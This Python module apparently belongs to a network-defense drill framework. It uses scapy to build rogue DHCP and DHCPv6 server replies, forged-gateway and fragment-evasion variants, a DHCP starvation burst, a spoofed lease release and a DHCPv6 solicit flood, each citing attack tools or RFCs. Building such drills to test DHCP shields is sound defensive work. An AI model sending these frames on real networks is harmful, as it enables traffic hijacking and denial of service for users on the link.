"""Rogue DHCP servers, and clients that take all there is."""

from __future__ import annotations

from collections.abc import Iterator

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.dhcp6 import DHCP6_Advertise, DHCP6_Reply, DHCP6_Solicit, DHCP6OptDNSServers
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import IPv6, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop

from vnet.drill.attack import Exercise, Maker
from vnet.drill.frames import BROADCAST, Layer, ether, wire
from vnet.drill.scene import Scene

SERVER4, CLIENT4, SERVER6, CLIENT6 = 67, 68, 547, 546
ROGUE, ROGUE6 = "Ettercap dhcp, Yersinia; RFC 7513", "fake_dhcps6 (THC-IPv6); RFC 7610"
OTHER_PORT = "RFC 2131, 4.1: only the port that it goes to is fixed"
ALL_DHCP = "ff02::1:2"
STARVING = 64
TRANSACTION = 0x5EED


def attacks(scene: Scene) -> Iterator[Exercise]:
    """DHCP over IPv4 and IPv6."""
    make = Maker("dhcp", scene.twin.name)
    twin, victim = scene.twin, scene.victim
    for kind in ("offer", "ack", "nak"):
        everyone = wire(
            ether(twin.mac, BROADCAST), _server4(twin.v4, "255.255.255.255"), _answer(scene, kind)
        )
        alone = wire(ether(twin.mac, victim.mac), _server4(twin.v4, victim.v4), _answer(scene, kind))
        yield make.attack(f"{kind} as a server", ROGUE, everyone, alone)
    alone = ether(twin.mac, victim.mac)
    forged = wire(alone, _server4(scene.gateway4, victim.v4), _answer(scene, "ack"))
    yield make.attack("ack as the gateway", ROGUE, forged)
    odd = wire(alone, _server4(twin.v4, victim.v4, 6767), _answer(scene, "offer"))
    yield make.attack("offer from another port", OTHER_PORT, odd)
    first = IP(src=twin.v4, dst=victim.v4, flags="MF", id=7) / UDP(sport=SERVER4, dport=CLIENT4)
    yield make.attack(
        "offer in a first fragment", ROGUE + "; RFC 3128", wire(alone, first, _answer(scene, "offer"))
    )
    yield from _version6(scene, make)
    yield from _clients(scene, make)


def _server4(source: str, target: str, port: int = SERVER4) -> Layer:
    return IP(src=source, dst=target) / UDP(sport=port, dport=CLIENT4)


def _mac_bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def _answer(scene: Scene, kind: str) -> Layer:
    lease = [("message-type", kind), ("server_id", scene.twin.v4), ("router", scene.twin.v4), "end"]
    hardware = _mac_bytes(scene.victim.mac)
    return BOOTP(op=2, xid=TRANSACTION, yiaddr="192.0.2.9", chaddr=hardware) / DHCP(options=lease)


def _version6(scene: Scene, make: Maker) -> Iterator[Exercise]:
    twin, victim = scene.twin, scene.victim
    link, dns = ether(twin.mac, victim.mac), DHCP6OptDNSServers(dnsservers=["2001:db8::bad"])
    for message in (DHCP6_Advertise, DHCP6_Reply):
        said = message(trid=TRANSACTION) / dns
        udp = UDP(sport=SERVER6, dport=CLIENT6)
        near = IPv6(src=twin.local, dst=victim.local) / udp / said
        far = IPv6(src=twin.v6, dst=victim.v6) / udp / said
        name = message.__name__.removeprefix("DHCP6_").lower()
        yield make.attack(f"DHCPv6 {name}", ROGUE6, wire(link, near), wire(link, far))
    said = DHCP6_Reply(trid=TRANSACTION) / dns
    outer = IPv6(src=twin.v6, dst=victim.v6)
    odd = wire(link, outer, UDP(sport=40_000, dport=CLIENT6), said)
    yield make.attack("DHCPv6 reply from another port", "RFC 7610, 5; RFC 8415, 7.2", odd)
    plain = UDP(sport=SERVER6, dport=CLIENT6) / said
    yield make.attack("DHCPv6 reply behind options", ROGUE6, wire(link, outer, IPv6ExtHdrHopByHop(), plain))
    first = wire(link, outer, IPv6ExtHdrFragment(m=1, id=TRANSACTION), plain)
    yield make.attack("DHCPv6 reply in a first fragment", "RFC 7610, 5", first)


def _clients(scene: Scene, make: Maker) -> Iterator[Exercise]:
    """Requests in the name of many, and of a neighbour."""
    twin, victim = scene.twin, scene.victim
    udp = UDP(sport=CLIENT4, dport=SERVER4)
    begin = ether(twin.mac, BROADCAST) / IP(src="0.0.0.0", dst="255.255.255.255") / udp
    discover = [("message-type", "discover"), "end"]
    starving = [
        wire(begin, BOOTP(xid=number, chaddr=bytes((2, 0, 0, 0, 0, number))), DHCP(options=discover))
        for number in range(STARVING)
    ]
    if "dhcp" not in scene.asked:
        yield make.attack("discovers of 64 clients", "DHCPig, Gobbler, Yersinia", *starving)
    hardware = _mac_bytes(victim.mac)
    release = [("message-type", "release"), ("server_id", scene.gateway4), "end"]
    gone = IP(src=victim.v4, dst=scene.gateway4) / udp / BOOTP(ciaddr=victim.v4, xid=1, chaddr=hardware)
    frame = wire(ether(twin.mac, BROADCAST), gone, DHCP(options=release))
    yield make.attack("release of a neighbour's lease", "Yersinia; RFC 2131, 4.4.6", frame)
    asks = IPv6(src=twin.local, dst=ALL_DHCP) / UDP(sport=CLIENT6, dport=SERVER6)
    solicits = [
        wire(ether(twin.mac, "33:33:00:01:00:02"), asks, DHCP6_Solicit(trid=number)) for number in range(16)
    ]
    if "dhcpv6" not in scene.asked:
        yield make.attack("DHCPv6 solicits of 16 clients", "flood_dhcpc6 (THC-IPv6)", *solicits)
